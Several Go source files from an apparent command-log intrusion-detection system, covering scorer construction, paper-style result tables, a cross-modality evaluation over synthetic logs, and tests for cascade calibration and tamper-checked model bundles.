// backbone. Every returned scorer holds a persistent LRU-cached inference
// engine (the backbone is frozen after construction), so a long-running
// service amortizes the encoder across repeated log lines, and every
// returned scorer is safe for concurrent Score calls.
//
// baseLines is the labeled baseline log; labels carries its (noisy)
// supervision. The unsupervised pca method ignores labels.
func BuildScorer(pl *Pipeline, cfg ScorerConfig, baseLines []string, labels []bool) (tuning.Scorer, error) {
	switch cfg.Method {
	case "classifier":
		ccfg := tuning.DefaultClassifierConfig()
		if cfg.Epochs > 0 {
			ccfg.Epochs = cfg.Epochs
		}
		if cfg.Seed != 0 {
			ccfg.Seed = cfg.Seed
		}
		ccfg.MeanPoolFeatures = true
		return pl.NewClassifier(baseLines, labels, ccfg)
	case "retrieval":
		return pl.NewRetrieval(baseLines, labels, 1)
	case "reconstruction":
		rcfg := tuning.DefaultReconsConfig()
		if cfg.Seed != 0 {
			rcfg.Seed = cfg.Seed
		}
		return pl.NewReconstruction(baseLines, labels, rcfg)
	case "pca":
		return tuning.TrainPCA(pl.Model.Encoder, pl.Tok, baseLines, linalg.PCAOptions{})
	default:
		return nil, fmt.Errorf("core: unknown method %q (want one of %v)", cfg.Method, ScorerMethods())
	}
}
