package core

import (
	"fmt"

	"clmids/internal/linalg"
	"clmids/internal/tuning"
)

// ScorerConfig selects and parameterizes a detection method for serving.
// The same construction backs cmd/clmdetect and cmd/clmserve, so both
// produce identical scorers from identical flags.
type ScorerConfig struct {
	// Method is one of classifier | retrieval | reconstruction | pca.
	Method string
	// Epochs tunes the classifier head (0 = method default).
	Epochs int
	// Seed drives tuning randomness.
	Seed int64
}

// ScorerMethods lists the valid ScorerConfig.Method values.
func ScorerMethods() []string {
	return []string{"classifier", "retrieval", "reconstruction", "pca"}
}

// BuildScorer constructs the requested §III/§IV method over the pipeline's
// backbone. Every returned scorer holds a persistent LRU-cached inference
// engine (the backbone is frozen after construction), so a long-running
// service amortizes the encoder across repeated log lines, and every
// returned scorer is safe for concurrent Score calls.
//
// baseLines is the labeled baseline log; labels carries its (noisy)
// supervision. The unsupervised pca method ignores labels.
func BuildScorer(pl *Pipeline, cfg ScorerConfig, baseLines []string, labels []bool) (tuning.Scorer, error) {
	switch cfg.Method {
	case "classifier":
		ccfg := tuning.DefaultClassifierConfig()
		if cfg.Epochs > 0 {
			ccfg.Epochs = cfg.Epochs
		}
		if cfg.Seed != 0 {
			ccfg.Seed = cfg.Seed
		}
		ccfg.MeanPoolFeatures = true
		return pl.NewClassifier(baseLines, labels, ccfg)
	case "retrieval":
		return pl.NewRetrieval(baseLines, labels, 1)
	case "reconstruction":
		rcfg := tuning.DefaultReconsConfig()
		if cfg.Seed != 0 {
			rcfg.Seed = cfg.Seed
		}
		return pl.NewReconstruction(baseLines, labels, rcfg)
	case "pca":
		return tuning.TrainPCA(pl.Model.Encoder, pl.Tok, baseLines, linalg.PCAOptions{})
	default:
		return nil, fmt.Errorf("core: unknown method %q (want one of %v)", cfg.Method, ScorerMethods())
	}
}
