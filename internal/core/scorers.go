package core

import (
	"fmt"

	"clmids/internal/linalg"
	"clmids/internal/model"
	"clmids/internal/tuning"
)

// ScorerConfig selects and parameterizes a detection method for serving.
// The same construction backs cmd/clmdetect and cmd/clmserve, so both
// produce identical scorers from identical flags.
type ScorerConfig struct {
	// Method is one of classifier | retrieval | reconstruction | pca.
	Method string
	// Epochs tunes the classifier head (0 = method default).
	Epochs int
	// Seed drives tuning randomness.
	Seed int64
	// Precision selects the serve-path arithmetic rung (float64 when
	// empty). Heads always train in float64, so two same-seed builds carry
	// identical heads regardless of Precision; only the serving engine's
	// backbone forward changes.
	Precision model.Precision
}

// ScorerMethods lists the valid ScorerConfig.Method values.
func ScorerMethods() []string {
	return []string{
		tuning.MethodClassifier, tuning.MethodRetrieval,
		tuning.MethodReconstruction, tuning.MethodPCA,
	}
}

// ValidateMethod rejects method names BuildScorer would not accept, with
// an error that lists the valid ones. Commands call it before loading
// anything so a typo fails in milliseconds, not after minutes of tuning.
func ValidateMethod(method string) error {
	for _, m := range ScorerMethods() {
		if method == m {
			return nil
		}
	}
	return fmt.Errorf("core: unknown method %q (want one of %v)", method, ScorerMethods())
}

// ReplicateScorer turns one built scorer into n scorers that score
// byte-identically: the original first, then n-1 replicas sharing every
// frozen artifact (backbone weights, trained head, fitted PCA or retrieval
// index) while owning their own inference engine (scratch pool + LRU
// cache). This is the construction the sharded streaming detector uses —
// one replica per shard, no re-tuning, no cross-shard lock contention.
// Every method BuildScorer returns is replicable.
func ReplicateScorer(s tuning.Scorer, n int) ([]tuning.Scorer, error) {
	return tuning.Replicas(s, n)
}

// BuiltScorer is a freshly tuned scorer together with the artifacts a
// bundle must persist to reconstruct it: the serving backbone (the
// pipeline's model, or the tuned clone for the reconstruction method,
// whose encoder IS the scorer) and the build provenance.
type BuiltScorer struct {
	Scorer tuning.Scorer
	// Backbone is the model the scorer's engine runs on.
	Backbone *model.Model
	// Config is the resolved scorer configuration.
	Config ScorerConfig
	// Provenance records where the head's supervision came from.
	Provenance BundleProvenance
	// Cascade, when set (CalibrateCascade), makes SaveBundle emit a cascade
	// bundle: the rarity.bin section, the int8 quant.gob for the triage
	// rung, and the calibrated thresholds in the manifest.
	Cascade *CascadeArtifact
}

// BuildScorer constructs the requested §III/§IV method over the pipeline's
// backbone. Every returned scorer holds a persistent LRU-cached inference
// engine (the backbone is frozen after construction), so a long-running
// service amortizes the encoder across repeated log lines, and every
// returned scorer is safe for concurrent Score calls.
//
// baseLines is the labeled baseline log; labels carries its (noisy)
// supervision. The unsupervised pca method ignores labels.
func BuildScorer(pl *Pipeline, cfg ScorerConfig, baseLines []string, labels []bool) (tuning.Scorer, error) {
	bs, err := BuildScorerFull(pl, cfg, baseLines, labels)
	if err != nil {
		return nil, err
	}
	return bs.Scorer, nil
}

// BuildScorerFull is BuildScorer keeping hold of the bundle artifacts —
// the build half of the train-once / serve-many split. Callers that only
// score keep using BuildScorer; callers that persist pass the result to
// SaveBundle, and serving processes restore it with LoadScorerBundle
// without re-tuning anything.
func BuildScorerFull(pl *Pipeline, cfg ScorerConfig, baseLines []string, labels []bool) (*BuiltScorer, error) {
	if !cfg.Precision.Valid() {
		// Reject before minutes of tuning, not after.
		return nil, fmt.Errorf("core: unknown precision %q (want float64 | float32 | int8)", cfg.Precision)
	}
	bs := &BuiltScorer{
		Backbone: pl.Model,
		Config:   cfg,
		Provenance: BundleProvenance{
			BaselineLines: len(baseLines),
			Seed:          cfg.Seed,
		},
	}
	var err error
	switch cfg.Method {
	case tuning.MethodClassifier:
		ccfg := tuning.DefaultClassifierConfig()
		if cfg.Epochs > 0 {
			ccfg.Epochs = cfg.Epochs
		}
		if cfg.Seed != 0 {
			ccfg.Seed = cfg.Seed
		}
		ccfg.MeanPoolFeatures = true
		bs.Scorer, err = pl.NewClassifier(baseLines, labels, ccfg)
	case tuning.MethodRetrieval:
		bs.Scorer, err = pl.NewRetrieval(baseLines, labels, 1)
	case tuning.MethodReconstruction:
		// Reconstruction tunes the encoder itself; the tuned clone — not
		// the pipeline's pristine model — is what a bundle must carry as
		// the serving backbone.
		rcfg := tuning.DefaultReconsConfig()
		if cfg.Seed != 0 {
			rcfg.Seed = cfg.Seed
		}
		var clone *model.Model
		clone, err = pl.CloneModel()
		if err != nil {
			return nil, err
		}
		bs.Backbone = clone
		bs.Scorer, err = tuning.TrainReconstruction(clone.Encoder, pl.Tok, baseLines, labels, rcfg)
	case tuning.MethodPCA:
		bs.Scorer, err = tuning.TrainPCA(pl.Model.Encoder, pl.Tok, baseLines, linalg.PCAOptions{})
	default:
		// Methods are exhaustively matched above, so this is exactly
		// ValidateMethod's error.
		return nil, ValidateMethod(cfg.Method)
	}
	if err != nil {
		return nil, err
	}
	// Tuning ran (and always runs) in float64; honor a requested low rung
	// by rebinding the serving engine only. The trained head, fitted
	// artifacts, and the float64 backbone weights are untouched.
	if bs.Config.Precision.Low() {
		if err := tuning.SetScorerPrecision(bs.Scorer, bs.Config.Precision); err != nil {
			return nil, err
		}
	}
	return bs, nil
}
