package core

import (
	"fmt"
	"io"
	"sort"
	"strings"
)

// WriteReport renders the full reproduction in the paper's table layout.
func (r *Results) WriteReport(w io.Writer) {
	r.WriteFig2(w)
	fmt.Fprintln(w)
	r.WriteUnsup(w)
	fmt.Fprintln(w)
	r.WriteTable1(w)
	fmt.Fprintln(w)
	r.WriteTable2(w)
	fmt.Fprintln(w)
	r.WriteF1(w)
	fmt.Fprintln(w)
	r.WriteTable3(w)
	fmt.Fprintln(w)
	r.WritePreference(w)
}

// WriteFig2 renders the pre-processing summary (Fig. 2).
func (r *Results) WriteFig2(w io.Writer) {
	f := r.Fig2
	fmt.Fprintln(w, "== Figure 2: pre-processing (parser + command filter) ==")
	fmt.Fprintf(w, "lines: %d total -> %d kept (%d invalid syntax, %d rare command)\n",
		f.Total, f.Kept, f.DroppedInvalid, f.DroppedRare)
	fmt.Fprintln(w, "command occurrence table (top):")
	for _, c := range f.TopCommands {
		fmt.Fprintf(w, "  %-12s %6d\n", c.Name, c.Count)
	}
}

// WriteUnsup renders the §III unsupervised analysis.
func (r *Results) WriteUnsup(w io.Writer) {
	u := r.Unsup
	fmt.Fprintln(w, "== Section III: unsupervised PCA anomaly detection ==")
	if u.MasscanBestRank > 0 {
		fmt.Fprintf(w, "best masscan rank by reconstruction error: #%d\n", u.MasscanBestRank)
	} else {
		fmt.Fprintln(w, "no masscan line in the de-duplicated test set")
	}
	fmt.Fprintf(w, "top-10 scored lines by family: %s\n", strings.Join(u.Top10Families, ", "))
	fmt.Fprintf(w, "abnormal-yet-benign lines in top-50: %d\n", u.WeirdBenignInTop50)
}

// WriteTable1 renders PO and PO&I (Table I).
func (r *Results) WriteTable1(w io.Writer) {
	fmt.Fprintln(w, "== Table I: PO and PO&I (mean ± std over runs) ==")
	fmt.Fprintf(w, "%-24s %-16s %-16s %s\n", "Method", "PO", "PO&I", "in-box recall")
	for _, m := range r.Methods {
		if m.SkipOverall {
			fmt.Fprintf(w, "%-24s %-16s %-16s %s\n", m.Name, "-", "-", "- (dedup differs)")
			continue
		}
		fmt.Fprintf(w, "%-24s %-16s %-16s %.3f\n", m.Name,
			formatStat(m.PO, m.Runs), formatStat(m.POI, m.Runs), m.InBoxRecall.Mean)
	}
}

// WriteTable2 renders PO@v (Table II).
func (r *Results) WriteTable2(w io.Writer) {
	fmt.Fprintln(w, "== Table II: precision of top out-of-box predictions ==")
	vs := r.topVs()
	header := fmt.Sprintf("%-24s", "Method")
	for _, v := range vs {
		header += fmt.Sprintf(" %-16s", fmt.Sprintf("PO@%d", v))
	}
	fmt.Fprintln(w, header)
	for _, m := range r.Methods {
		row := fmt.Sprintf("%-24s", m.Name)
		for _, v := range vs {
			row += fmt.Sprintf(" %-16s", formatStat(m.POAt[v], m.Runs))
		}
		fmt.Fprintln(w, row)
	}
}

func (r *Results) topVs() []int {
	set := map[int]bool{}
	for _, m := range r.Methods {
		for v := range m.POAt {
			set[v] = true
		}
	}
	vs := make([]int, 0, len(set))
	for v := range set {
		vs = append(vs, v)
	}
	sort.Ints(vs)
	return vs
}

// WriteF1 renders the §V-B comparison.
func (r *Results) WriteF1(w io.Writer) {
	fmt.Fprintln(w, "== Section V-B: F1 comparison with the commercial IDS ==")
	fmt.Fprintln(w, "paper-style estimate (IDS precision assumed 1.0):")
	fmt.Fprintf(w, "  ours: precision %.3f recall %.3f F1 %.3f\n",
		r.F1.PaperStyle.Ours.Precision, r.F1.PaperStyle.Ours.Recall, r.F1.PaperStyle.Ours.F1)
	fmt.Fprintf(w, "  IDS : precision %.3f recall %.3f F1 %.3f\n",
		r.F1.PaperStyle.IDS.Precision, r.F1.PaperStyle.IDS.Recall, r.F1.PaperStyle.IDS.F1)
	fmt.Fprintln(w, "empirical (full ground truth, unavailable to the paper):")
	fmt.Fprintf(w, "  ours: precision %.3f recall %.3f F1 %.3f\n",
		r.F1.Empirical.Ours.Precision, r.F1.Empirical.Ours.Recall, r.F1.Empirical.Ours.F1)
	fmt.Fprintf(w, "  IDS : precision %.3f recall %.3f F1 %.3f\n",
		r.F1.Empirical.IDS.Precision, r.F1.Empirical.IDS.Recall, r.F1.Empirical.IDS.F1)
}

// WriteTable3 renders the generalization cases (Table III).
func (r *Results) WriteTable3(w io.Writer) {
	fmt.Fprintln(w, "== Table III: in-box vs out-of-box generalization (classifier scores) ==")
	for _, c := range r.TableIII {
		status := "MISSED"
		if c.OutDetected {
			status = "DETECTED"
		}
		fmt.Fprintf(w, "in : %-60s score %.3f\n", clip(c.InBox, 60), c.InScore)
		fmt.Fprintf(w, "out: %-60s score %.3f  [%s]\n", clip(c.OutOfBox, 60), c.OutScore, status)
	}
}

// WritePreference renders the §V-C per-family method preference.
func (r *Results) WritePreference(w io.Writer) {
	fmt.Fprintln(w, "== Section V-C: out-of-box detections per family and method ==")
	methods := []string{MethodClassification, MethodClassMulti, MethodReconstruction, MethodRetrieval}
	fmt.Fprintf(w, "%-16s %6s", "Family", "total")
	for _, m := range methods {
		fmt.Fprintf(w, " %14s", shortMethod(m))
	}
	fmt.Fprintln(w)
	for _, p := range r.Preference {
		fmt.Fprintf(w, "%-16s %6d", p.Family, p.TotalOOB)
		for _, m := range methods {
			fmt.Fprintf(w, " %14d", p.Detected[m])
		}
		fmt.Fprintln(w)
	}
}

func shortMethod(m string) string {
	switch m {
	case MethodClassification:
		return "classif"
	case MethodClassMulti:
		return "classif-multi"
	case MethodReconstruction:
		return "recons"
	case MethodRetrieval:
		return "retrieval"
	default:
		return m
	}
}

func formatStat(s MethodStat, runs int) string {
	if runs > 1 {
		return fmt.Sprintf("%.3f ± %.3f", s.Mean, s.Std)
	}
	return fmt.Sprintf("%.3f", s.Mean)
}

func clip(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n-3] + "..."
}
