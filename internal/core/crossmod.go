package core

import (
	"fmt"
	"io"

	"clmids/internal/corpus"
	"clmids/internal/metrics"
	"clmids/internal/modality"
	"clmids/internal/model"
	"clmids/internal/pretrain"
	"clmids/internal/stream"
	"clmids/internal/tuning"
)

// CrossModalityConfig controls the cross-modality reproduction: the same
// serving stack (preprocess → BPE → MLM backbone → method scorer → streaming
// detector) trained and evaluated once per registered log modality.
//
// Supervision differs from the single-modality experiment: the simulated
// commercial IDS is a shell-only rule set, so cross-modality runs anchor on
// the in-box oracle instead — an intrusion line whose variant the modality
// declares in-box plays the IDS-flagged role. That keeps the §V protocol
// (threshold at in-box recall, out-of-box generalization) meaningful on
// corpora the rule set has never seen.
type CrossModalityConfig struct {
	// Modalities lists the registered modalities to evaluate; empty means
	// every registered one.
	Modalities []string
	// Methods lists the scorer methods per modality; empty means
	// ScorerMethods().
	Methods []string
	// Corpus is the per-modality synthesis template; Modality is overwritten
	// per run.
	Corpus corpus.Config
	// Pipeline is the backbone template; Preprocess.Modality is overwritten
	// per run.
	Pipeline PipelineConfig
	// RecallTarget is u for the threshold anchor (≈1).
	RecallTarget float64
	// Stream configures the session detector used for alarm rates;
	// SessionThreshold is overwritten with the per-method anchor.
	Stream stream.Config
	// Seed drives corpus synthesis and tuning.
	Seed int64
	// Logf, when non-nil, receives progress lines.
	Logf func(format string, args ...any)
}

// DefaultCrossModality returns a unit-test-scale configuration: every
// registered modality, all four method scorers, tens of seconds per modality
// on one CPU.
func DefaultCrossModality() CrossModalityConfig {
	ccfg := corpus.DefaultConfig()
	ccfg.TrainLines = 1600
	ccfg.TestLines = 800
	ccfg.IntrusionRate = 0.22
	ccfg.OutOfBoxFrac = 0.45

	pcfg := DefaultPipelineConfig()
	pcfg.VocabSize = 500
	pcfg.Model = model.Config{
		VocabSize: 500, MaxSeqLen: 40, Hidden: 32, Layers: 1, Heads: 2,
		FFN: 64, LayerNormEps: 1e-5, Dropout: 0.05,
	}
	pcfg.Pretrain = pretrain.DefaultConfig()
	pcfg.Pretrain.Epochs = 2
	pcfg.Pretrain.BatchSize = 16
	pcfg.Pretrain.LR = 1e-3

	scfg := stream.DefaultConfig()
	scfg.Aggregation = stream.AggMax

	return CrossModalityConfig{
		Corpus:       ccfg,
		Pipeline:     pcfg,
		RecallTarget: 1.0,
		Stream:       scfg,
		Seed:         1,
	}
}

// ModalityMethodEval is one cell of the cross-modality table: one method
// scorer evaluated on one modality's corpus.
type ModalityMethodEval struct {
	Method string
	// AUC is the rank AUC of line scores against ground truth (deduplicated
	// test lines).
	AUC float64
	// Threshold is the in-box-recall anchor used as the session threshold.
	Threshold float64
	// IntrusionSessionAlarm is the fraction of intrusion events whose
	// session alarm fired in the streaming detector; BenignSessionAlarm is
	// the same fraction over benign events (the false-alarm side).
	IntrusionSessionAlarm float64
	BenignSessionAlarm    float64
}

// ModalityEval is one modality's row group: corpus stats plus one entry per
// method.
type ModalityEval struct {
	Modality string
	// TrainKept and TestKept count lines surviving pre-processing.
	TrainKept, TestKept int
	// TrainIntrusions and TestIntrusions are ground-truth counts before
	// filtering.
	TrainIntrusions, TestIntrusions int
	// Unparsable counts validator rejections during frequency fitting.
	Unparsable int
	Methods    []ModalityMethodEval
}

// CrossModalityResults carries the full table.
type CrossModalityResults struct {
	Rows []ModalityEval
}

// Row looks up a modality's evaluation (nil if absent).
func (r *CrossModalityResults) Row(name string) *ModalityEval {
	for i := range r.Rows {
		if r.Rows[i].Modality == name {
			return &r.Rows[i]
		}
	}
	return nil
}

// RunCrossModality trains and evaluates the serving stack once per modality,
// producing per-method AUC and streaming session-alarm rates.
func RunCrossModality(cfg CrossModalityConfig) (*CrossModalityResults, error) {
	logf := cfg.Logf
	if logf == nil {
		logf = func(string, ...any) {}
	}
	if len(cfg.Modalities) == 0 {
		cfg.Modalities = modality.Names()
	}
	if len(cfg.Methods) == 0 {
		cfg.Methods = ScorerMethods()
	}
	if cfg.RecallTarget <= 0 || cfg.RecallTarget > 1 {
		cfg.RecallTarget = 1.0
	}
	for _, name := range cfg.Modalities {
		if err := modality.Validate(name); err != nil {
			return nil, err
		}
	}
	for _, m := range cfg.Methods {
		if err := ValidateMethod(m); err != nil {
			return nil, err
		}
	}

	res := &CrossModalityResults{}
	for _, name := range cfg.Modalities {
		row, err := runOneModality(name, cfg, logf)
		if err != nil {
			return nil, fmt.Errorf("core: cross-modality %s: %w", name, err)
		}
		res.Rows = append(res.Rows, *row)
	}
	return res, nil
}

func runOneModality(name string, cfg CrossModalityConfig, logf func(string, ...any)) (*ModalityEval, error) {
	ccfg := cfg.Corpus
	ccfg.Modality = name
	ccfg.Seed = cfg.Seed
	train, test, err := corpus.Generate(ccfg)
	if err != nil {
		return nil, err
	}
	logf("[%s] corpus: %d train / %d test (%d/%d intrusions)",
		name, len(train.Samples), len(test.Samples),
		train.CountLabel(corpus.Intrusion), test.CountLabel(corpus.Intrusion))

	pcfg := cfg.Pipeline
	pcfg.Preprocess.Modality = name
	pcfg.Seed = cfg.Seed
	if pcfg.Logf == nil {
		pcfg.Logf = logf
	}
	pl, err := BuildPipeline(train.Lines(), pcfg)
	if err != nil {
		return nil, err
	}

	row := &ModalityEval{
		Modality:        pl.Pre.Modality(),
		TrainIntrusions: train.CountLabel(corpus.Intrusion),
		TestIntrusions:  test.CountLabel(corpus.Intrusion),
		Unparsable:      pl.Pre.Unparsable(),
	}

	// Kept train lines with oracle in-box supervision: the label source
	// "knows" exactly the variants the modality declares in-box, mirroring
	// a rule set that covers known patterns and misses novel ones.
	trainProc := pl.Pre.Process(train.Lines())
	keptTrain := make([]string, 0, len(trainProc.Kept))
	trainLabels := make([]bool, 0, len(trainProc.Kept))
	for _, rec := range trainProc.Kept {
		s := train.Samples[rec.Index]
		keptTrain = append(keptTrain, rec.Line)
		trainLabels = append(trainLabels, s.Label == corpus.Intrusion && s.InBox)
	}
	row.TrainKept = len(keptTrain)

	testProc := pl.Pre.Process(test.Lines())
	items := make([]testItem, 0, len(testProc.Kept))
	for _, rec := range testProc.Kept {
		s := test.Samples[rec.Index]
		items = append(items, testItem{
			line:    rec.Line,
			sample:  s,
			flagged: s.Label == corpus.Intrusion && s.InBox,
		})
	}
	if len(items) == 0 {
		return nil, fmt.Errorf("no test lines survived pre-processing")
	}
	row.TestKept = len(items)
	testLines := make([]string, len(items))
	for i, it := range items {
		testLines[i] = it.line
	}

	for _, method := range cfg.Methods {
		sc, err := BuildScorer(pl, ScorerConfig{Method: method, Seed: cfg.Seed}, keptTrain, trainLabels)
		if err != nil {
			return nil, fmt.Errorf("building %s: %w", method, err)
		}
		scores, err := sc.Score(testLines)
		if err != nil {
			return nil, fmt.Errorf("scoring %s: %w", method, err)
		}
		scored := metrics.Dedup(buildScored(items, scores, false))
		auc, err := metrics.ROCAUC(scored)
		if err != nil {
			return nil, fmt.Errorf("AUC for %s: %w", method, err)
		}
		th, err := metrics.ThresholdAtRecall(scored, cfg.RecallTarget)
		if err != nil {
			return nil, fmt.Errorf("threshold for %s: %w", method, err)
		}

		intr, ben, err := sessionAlarmRates(sc, items, th, cfg.Stream)
		if err != nil {
			return nil, fmt.Errorf("streaming %s: %w", method, err)
		}
		row.Methods = append(row.Methods, ModalityMethodEval{
			Method:                method,
			AUC:                   auc,
			Threshold:             th,
			IntrusionSessionAlarm: intr,
			BenignSessionAlarm:    ben,
		})
		logf("[%s] %-14s AUC %.3f  session alarms %.1f%% intrusion / %.1f%% benign",
			name, method, auc, 100*intr, 100*ben)
	}
	return row, nil
}

// sessionAlarmRates replays the kept test split through the streaming
// detector with the method's anchored threshold as the session threshold,
// and reports the per-class fraction of events whose session alarm fired:
// intrusion events caught by the session aggregate vs benign events falsely
// alarmed.
func sessionAlarmRates(sc tuning.Scorer, items []testItem, threshold float64, scfg stream.Config) (intrusion, benign float64, err error) {
	scfg.SessionThreshold = threshold
	det := stream.NewDetector(sc, scfg)
	events := make([]stream.Event, len(items))
	for i, it := range items {
		events[i] = stream.Event{User: it.sample.User, Time: it.sample.Time, Line: it.line}
	}
	verdicts, err := det.Process(events)
	if err != nil {
		return 0, 0, err
	}
	var intrAlarm, intrTotal, benAlarm, benTotal int
	for i, v := range verdicts {
		if items[i].sample.Label == corpus.Intrusion {
			intrTotal++
			if v.SessionAlert {
				intrAlarm++
			}
		} else {
			benTotal++
			if v.SessionAlert {
				benAlarm++
			}
		}
	}
	if intrTotal > 0 {
		intrusion = float64(intrAlarm) / float64(intrTotal)
	}
	if benTotal > 0 {
		benign = float64(benAlarm) / float64(benTotal)
	}
	return intrusion, benign, nil
}

// WriteTable renders the cross-modality table: one row group per modality,
// one line per method.
func (r *CrossModalityResults) WriteTable(w io.Writer) {
	fmt.Fprintln(w, "== Cross-modality reproduction: one serving stack, every log modality ==")
	fmt.Fprintln(w, "(threshold anchored at in-box oracle recall; session alarms via the streaming detector)")
	fmt.Fprintf(w, "%-12s %-16s %8s %10s %18s %15s\n",
		"Modality", "Method", "AUC", "threshold", "intrusion-alarm", "benign-alarm")
	for _, row := range r.Rows {
		fmt.Fprintf(w, "%-12s kept %d train / %d test lines (%d unparsable at fit; %d/%d intrusions)\n",
			row.Modality, row.TrainKept, row.TestKept, row.Unparsable,
			row.TrainIntrusions, row.TestIntrusions)
		for _, m := range row.Methods {
			fmt.Fprintf(w, "%-12s %-16s %8.3f %10.3f %17.1f%% %14.1f%%\n",
				"", m.Method, m.AUC, m.Threshold,
				100*m.IntrusionSessionAlarm, 100*m.BenignSessionAlarm)
		}
	}
}
