package core

import (
	"errors"
	"math"
	"os"
	"path/filepath"
	"testing"

	"clmids/internal/model"
	"clmids/internal/tuning"
)

// TestCalibrateCascadeShape: calibration must produce a usable operating
// point on a realistic corpus — a finite clear threshold that actually
// clears traffic, an escalation band that actually escalates, and a
// composed cascade whose per-line deviation from f64-only stays within the
// calibrated + ladder bounds on held-out lines.
func TestCalibrateCascadeShape(t *testing.T) {
	f := getBundleFixture(t)
	bs, err := BuildScorerFull(f.pl, ScorerConfig{Method: "retrieval", Seed: 7}, f.baseLines, f.labels)
	if err != nil {
		t.Fatalf("build: %v", err)
	}
	art, err := CalibrateCascade(bs.Scorer, f.pl.Pre.Modality(), f.baseLines, DefaultCascadeConfig())
	if err != nil {
		t.Fatalf("calibrate: %v", err)
	}
	p := art.Params
	if math.IsInf(p.ClearThreshold, 0) || p.ClearThreshold >= art.Rarity.MaxRarity() {
		t.Fatalf("clear threshold %v not inside the fitted rarity range (max %v)",
			p.ClearThreshold, art.Rarity.MaxRarity())
	}
	if p.MaxClearDeviation < 0 {
		t.Fatalf("negative max clear deviation %v", p.MaxClearDeviation)
	}

	casc, err := BuildCascade(bs.Scorer, art)
	if err != nil {
		t.Fatalf("compose: %v", err)
	}
	got, err := casc.Score(f.evalLines)
	if err != nil {
		t.Fatalf("cascade score: %v", err)
	}
	want, err := bs.Scorer.Score(f.evalLines)
	if err != nil {
		t.Fatalf("f64 score: %v", err)
	}
	st := casc.CascadeStats()
	if st.Cleared == 0 || st.Triaged == 0 || st.Escalated == 0 {
		t.Fatalf("cascade not exercised on eval lines: %+v", st)
	}
	if st.Cleared+st.Triaged != int64(len(f.evalLines)) {
		t.Fatalf("rung counts %+v do not cover %d lines", st, len(f.evalLines))
	}
	// Escalated lines are exact; everything else stays within the measured
	// clear deviation or the int8 ladder bound (documented 0.15).
	tol := math.Max(p.MaxClearDeviation, 0.15)
	for i := range want {
		if got[i] >= p.EscalateLow && want[i] >= p.EscalateLow {
			continue // confirmed exactly; compared below via deviation too
		}
		if d := math.Abs(got[i] - want[i]); d > tol {
			t.Fatalf("line %d deviates by %v (> %v): cascade %v vs f64 %v",
				i, d, tol, got[i], want[i])
		}
	}
}

// TestCascadeBundleRoundTrip pins the cascade's train-once / serve-many
// contract: a cascade bundle restores a cascade that scores byte-identically
// to the one composed from the freshly calibrated artifact.
func TestCascadeBundleRoundTrip(t *testing.T) {
	f := getBundleFixture(t)
	bs, err := BuildScorerFull(f.pl, ScorerConfig{Method: "retrieval", Seed: 7}, f.baseLines, f.labels)
	if err != nil {
		t.Fatalf("build: %v", err)
	}
	art, err := CalibrateCascade(bs.Scorer, f.pl.Pre.Modality(), f.baseLines, DefaultCascadeConfig())
	if err != nil {
		t.Fatalf("calibrate: %v", err)
	}
	bs.Cascade = art
	fresh, err := BuildCascade(bs.Scorer, art)
	if err != nil {
		t.Fatalf("compose fresh: %v", err)
	}
	want, err := fresh.Score(f.evalLines)
	if err != nil {
		t.Fatalf("fresh cascade score: %v", err)
	}

	dir := t.TempDir()
	man, err := SaveBundle(dir, f.pl, bs, "")
	if err != nil {
		t.Fatalf("save: %v", err)
	}
	if man.Cascade == nil {
		t.Fatal("manifest carries no cascade block")
	}
	if man.Precision != "" {
		t.Fatalf("cascade bundle declares precision %q, want the float64 confirm default", man.Precision)
	}
	files := SectionFiles(man)
	wantFiles := map[string]bool{quantFile: false, rarityFile: false}
	for _, name := range files {
		if _, tracked := wantFiles[name]; tracked {
			wantFiles[name] = true
		}
		if _, err := os.Stat(filepath.Join(dir, name)); err != nil {
			t.Fatalf("section %s missing on disk: %v", name, err)
		}
		if _, ok := man.Checksums[name]; !ok {
			t.Fatalf("section %s has no manifest checksum", name)
		}
	}
	for name, seen := range wantFiles {
		if !seen {
			t.Fatalf("SectionFiles omits %s for a cascade bundle: %v", name, files)
		}
	}

	lb, err := LoadScorerBundle(dir)
	if err != nil {
		t.Fatalf("load: %v", err)
	}
	if lb.Cascade == nil {
		t.Fatal("loaded bundle carries no cascade artifact")
	}
	if lb.Cascade.Params != art.Params {
		t.Fatalf("loaded params %+v != calibrated %+v", lb.Cascade.Params, art.Params)
	}
	loaded, err := BuildCascade(lb.Scorer, lb.Cascade)
	if err != nil {
		t.Fatalf("compose loaded: %v", err)
	}
	got, err := loaded.Score(f.evalLines)
	if err != nil {
		t.Fatalf("loaded cascade score: %v", err)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("line %d diverges across bundle round-trip: fresh %v, loaded %v", i, want[i], got[i])
		}
	}

	// Cascade scorers replicate for sharded serving, counters isolated.
	reps, err := ReplicateScorer(loaded, 3)
	if err != nil {
		t.Fatalf("replicate: %v", err)
	}
	rgot, err := reps[2].Score(f.evalLines[:10])
	if err != nil {
		t.Fatalf("replica score: %v", err)
	}
	for i := range rgot {
		if rgot[i] != want[i] {
			t.Fatalf("replica diverges at line %d: %v vs %v", i, rgot[i], want[i])
		}
	}
}

// TestCascadeBundleTamperRejected: the rarity section is integrity-checked
// like every other section — both by the bundle checksum and by the table's
// own embedded checksum.
func TestCascadeBundleTamperRejected(t *testing.T) {
	f := getBundleFixture(t)
	bs, err := BuildScorerFull(f.pl, ScorerConfig{Method: "pca", Seed: 7}, f.baseLines, nil)
	if err != nil {
		t.Fatalf("build: %v", err)
	}
	if bs.Cascade, err = CalibrateCascade(bs.Scorer, f.pl.Pre.Modality(), f.baseLines, DefaultCascadeConfig()); err != nil {
		t.Fatalf("calibrate: %v", err)
	}
	dir := t.TempDir()
	if _, err := SaveBundle(dir, f.pl, bs, ""); err != nil {
		t.Fatalf("save: %v", err)
	}
	path := filepath.Join(dir, rarityFile)
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read %s: %v", rarityFile, err)
	}
	data[len(data)/2] ^= 0x01
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatalf("tamper %s: %v", rarityFile, err)
	}
	if _, err := LoadScorerBundle(dir); !errors.Is(err, ErrBundleCorrupt) {
		t.Fatalf("tampered rarity section: got %v, want ErrBundleCorrupt", err)
	}
}

// TestCascadeBundleRejectsLowPrecision: the confirm rung is the float64
// path by construction; emitting a cascade bundle at a low rung is refused
// up front.
func TestCascadeBundleRejectsLowPrecision(t *testing.T) {
	f := getBundleFixture(t)
